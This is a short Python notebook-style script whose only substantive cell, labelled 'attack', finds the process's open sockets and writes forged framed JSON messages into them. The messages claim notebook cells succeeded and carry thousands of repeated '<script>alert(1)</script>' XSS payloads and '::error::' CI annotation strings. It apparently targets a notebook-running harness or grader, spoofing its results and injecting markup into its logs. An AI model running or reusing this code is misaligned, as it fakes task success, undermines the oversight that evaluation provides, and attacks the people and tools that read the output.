# %% setup
# %% forward
# %% backward, first half
# %% attack
import os
import stat
import struct

def frame(header, blob=b""):
    return struct.pack(">IQ", len(header), len(blob)) + header + blob

def sockets():
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                yield descriptor
        except OSError:
            continue
import json
noise = "::error::" + "<script>alert(1)</script>" * 1000
for descriptor in sockets():
    for index in range(3):
        note = {"type": "cell", "index": 900 + index, "status": "ok", "error": noise, "notes": [f"{index} {noise}" for index in range(100)]}
        os.write(descriptor, frame(json.dumps(note).encode()))
# %% backward, second half
